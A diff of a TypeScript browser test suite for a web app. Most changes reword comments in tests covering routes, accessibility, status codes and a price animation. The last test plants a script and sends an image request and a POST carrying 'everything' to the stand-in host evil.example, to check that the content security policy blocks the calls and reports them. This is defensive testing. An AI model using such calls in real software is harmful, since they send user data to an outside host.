@@ -8,7 +8,7 @@ import { takeBreaches } from './content-policy.ts';
 import { startTrial } from './sign-up.ts';
 import { stage } from './stage.ts';
 
-/** Every place of the app, opened as a person signed in finds it. */
+/** Every page of the app, opened by a person who is signed in. */
 
 const here = stage();
 const { server } = here;
@@ -38,8 +38,8 @@ async function signedIn(colorScheme: 'dark' | 'light'): Promise<{ phone: Phone; 
 }
 
 /**
- * The page's accessibility faults. A screen that is still coming has no heading yet and links without words: a fault is
- * what stays. Where a place leads on to another at once, it is that one that is looked at.
+ * The page's accessibility faults. A screen that is still loading has no heading and links without text, so only faults
+ * that remain count. Where a page redirects, its target is checked.
  */
 async function look(page: Page, rules?: readonly string[]): Promise<string[]> {
   let faults: string[] = [];
@@ -53,7 +53,7 @@ async function look(page: Page, rules?: readonly string[]): Promise<string[]> {
   return faults;
 }
 
-/** Where links lead that is not built and that they do not say is not. */
+/** Targets of links to pages that are not built, where the link does not say so. */
 async function silentLinks(page: Page): Promise<string[]> {
   const unmarked = await page
     .locator('a[href^="/"]:not(:has([data-not-built]))')
@@ -66,7 +66,7 @@ const LOOK_AGAIN_MS = 300;
 
 const isScreen = ({ built, kind, path }: AppRoute) => built && kind === 'page' && path !== '/loadPage';
 
-describe('the places of the app', () => {
+describe('all pages of the app', () => {
   test('all 176 routes open without an error, a broken content policy or an empty page; screens have no accessibility fault, and no link to what is not built without saying so', async () => {
     expect(ROUTES).toHaveLength(176);
     const { phone, page } = await signedIn('dark');
@@ -89,7 +89,7 @@ describe('the places of the app', () => {
   // The light theme has the same structure in other colours.
   test('in the light, built screens can be read', async () => {
     const faults: string[] = [];
-    // Who is signed in is led on from the landing page.
+    // A signed-in person is redirected from the landing page.
     for (const scheme of ['light', 'dark'] as const) {
       const visitor = await Phone.open(here.browser, server.url, scheme);
       const page = await visitor.page('/loadPage');
@@ -107,7 +107,7 @@ describe('the places of the app', () => {
   });
 });
 
-test('each path with a screen is answered 200 in any letter case, any other 404 with the app, which says so', async () => {
+test('each path with a screen is answered with 200 in any letter case, any other with 404 and the app’s not-found page', async () => {
   const answered = async (path: string) => {
     const answer = await fetch(`${server.url}${path}`);
     return [path, answer.status, (await answer.text()).includes('<title>')];
@@ -123,7 +123,7 @@ test('a tick is tinted behind the digits of its price', async () => {
   const page = await phone.page('/stockDetails?code=AAPL');
   // The chart comes last: from then on the price stays where it is.
   await page.getByRole('application').waitFor();
-  // Stopped at its full strength and made opaque: before the digits it would leave nothing of them.
+  // The tint is stopped at its strongest and made opaque: in front of the digits it would hide them.
   const stopped = await page.waitForFunction(() => {
     for (const animation of document.getAnimations()) {
       const tint = (animation.effect as KeyframeEffect).target as HTMLElement;
@@ -172,7 +172,7 @@ test('an injected script is blocked, and the violation is reported', async () =>
       script.textContent = 'globalThis.planted = true';
       document.head.append(script);
     } catch {
-      // Trusted types: not even the text is taken.
+      // Trusted types: assigning the text throws already.
     }
     new Image().src = 'https://evil.example/pixel.png';
     void fetch('https://evil.example/', { method: 'POST', body: 'everything' }).catch(() => {});
